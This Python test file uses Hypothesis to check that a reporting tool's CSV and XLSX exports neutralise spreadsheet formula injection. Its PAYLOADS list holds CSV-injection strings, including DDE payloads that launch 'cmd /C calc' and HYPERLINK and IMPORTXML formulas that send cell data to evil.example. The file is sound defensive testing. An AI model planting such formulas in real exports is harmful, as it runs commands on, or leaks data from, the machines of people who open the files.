"""RELIABILITY T15 ``export_formula_neutralisation``: whatever text a report carries (a name,
an org unit, a note), its CSV and XLSX exports hold no cell a spreadsheet would evaluate,
give the text back exactly once one leading ``'`` is stripped, and keep numeric columns
numeric.

Hypothesis draws arbitrary text and text built to trigger formulas: the OWASP leaders
``= + - @ TAB CR NUL`` (also after spaces, and their full-width forms), DDE, HYPERLINK and
IMPORTXML payloads, and texts that themselves start with ``'``. CI: 200 examples per test;
``DUTYSTATION_TEST_PROFILE=nightly``: 2,000. XLSX cannot store C0 control characters other
than tab and newline: they are written as U+FFFD and carriage returns as newlines (XML
reads them so), and the XLSX round trip is compared with the same replacement. XLSX keeps
15 to 16 significant digits of a number, as Excel does.
"""

from __future__ import annotations

import csv
import io
import math
import os
import re
from datetime import date

import openpyxl
import pyarrow as pa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dutystation.reports.csv import write_csv
from dutystation.reports.model import Column, ColumnKind, Report, Section
from dutystation.reports.spreadsheet_safety import (
    escape_column,
    is_formula_like,
    is_plain_number,
    unescape_text,
)
from dutystation.reports.xlsx import xlsx_bytes

NIGHTLY = os.environ.get("DUTYSTATION_TEST_PROFILE") == "nightly"
EXAMPLES = 2000 if NIGHTLY else 200
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+thespanishinquisition(\"cmd\"|'/c calc'!A0)",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "  =1+1",
    "＝1+1",
    "'=1+1",
    "''",
    "'",
]
LEADERS = ["=", "+", "-", "@", "\t", "\r", "\x00", " =", "   @", "＝", "＋", "－", "＠", "'", "'="]
texts = st.one_of(
    st.text(max_size=40),
    st.sampled_from(PAYLOADS),
    st.builds(lambda lead, rest: lead + rest, st.sampled_from(LEADERS), st.text(max_size=30)),
)
numbers = st.floats(min_value=-1e9, max_value=1e9, allow_nan=False)
_ILLEGAL_XLSX = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def as_xlsx_holds(text: str) -> str:
    return re.sub("\r\n?", "\n", _ILLEGAL_XLSX.sub("\ufffd", text))


COLUMNS = (
    Column("name", "Name"),
    Column("employees", "Employees", ColumnKind.INTEGER),
    Column("hours", "Hours", ColumnKind.HOURS),
    Column("share", "Share", ColumnKind.SHARE),
    Column("delta", "Change", ColumnKind.NUMBER),
)


def report(names: list[str], values: list[float]) -> Report:
    n = len(names)
    table = pa.table(
        {
            "name": pa.array(names, pa.string()),
            "employees": pa.array([int(v) for v in values[:n]], pa.int64()),
            "hours": pa.array(values[:n], pa.float64()),
            "share": pa.array([abs(v) / 1e9 for v in values[:n]], pa.float64()),
            "delta": pa.array([-v for v in values[:n]], pa.float64()),
        }
    )
    section = Section("people", "People", COLUMNS, table, notes=tuple(names[:3]))
    return Report(
        kind="t15",
        title=names[0],
        subtitle="formula neutralisation",
        period_start=date(2025, 1, 6),
        period_end=date(2025, 1, 12),
        as_of=date(2025, 1, 12),
        sections=(section,),
        primary="people",
        parameters={"org unit": names[-1]},
    )


def evaluates(cell: str) -> bool:
    """Would a spreadsheet opening the CSV run this cell? (A plain number is a number.)"""
    return is_formula_like(cell) and not is_plain_number(cell)


pairs = st.lists(st.tuples(texts, numbers), min_size=1, max_size=12)


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(pairs)
def test_csv_runs_nothing_round_trips_and_keeps_numbers(rows: list[tuple[str, float]]) -> None:
    names, values = [r[0] for r in rows], [r[1] for r in rows]
    sink = io.BytesIO()
    write_csv(report(names, values).section(), sink, excel_bom=True)
    text = sink.getvalue().decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == [c.name for c in COLUMNS]
    body = read[1:]
    assert len(body) == len(rows)
    assert sum(evaluates(cell) for row in read for cell in row) == 0
    for (name, value), cells in zip(rows, body, strict=True):
        assert unescape_text(cells[0]) == name
        assert int(cells[1]) == int(value)
        assert float(cells[2]) == value
        assert float(cells[4]) == -value


def sheet_values(data: bytes) -> tuple[int, dict[str, list[list[object]]]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    formulas = 0
    values: dict[str, list[list[object]]] = {}
    for sheet in book.worksheets:
        rows = []
        for row in sheet.iter_rows():
            formulas += sum(cell.data_type == "f" for cell in row)
            rows.append([cell.value for cell in row])
        values[sheet.title] = rows
    return formulas, values


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(pairs)
def test_xlsx_holds_no_formula_round_trips_and_keeps_numbers(
    rows: list[tuple[str, float]],
) -> None:
    names, values = [r[0] for r in rows], [r[1] for r in rows]
    formulas, sheets = sheet_values(xlsx_bytes(report(names, values)))
    assert formulas == 0
    data = sheets["People"]
    assert data[0] == [c.label for c in COLUMNS]
    for (name, value), cells in zip(rows, data[1:], strict=True):
        shown = as_xlsx_holds(name)
        if shown == "":
            assert cells[0] in ("", None)
        else:
            assert isinstance(cells[0], str) and unescape_text(cells[0]) == shown
        assert isinstance(cells[1], int) and cells[1] == int(value)
        assert isinstance(cells[2], int | float) and math.isclose(cells[2], value, rel_tol=1e-15)
        assert isinstance(cells[4], int | float) and math.isclose(cells[4], -value, rel_tol=1e-15)
    title = sheets["About"][0][0]
    assert unescape_text(title or "") == as_xlsx_holds(names[0])


@given(st.lists(st.one_of(st.none(), texts), max_size=20))
@settings(max_examples=EXAMPLES, deadline=None)
def test_the_column_rule_is_reversible_for_every_text(values: list[str | None]) -> None:
    escaped = escape_column(pa.array(values, pa.string())).to_pylist()
    for original, cell in zip(values, escaped, strict=True):
        if original is None:
            assert cell is None
            continue
        assert not evaluates(cell)
        assert cell == original if is_plain_number(original) else unescape_text(cell) == original
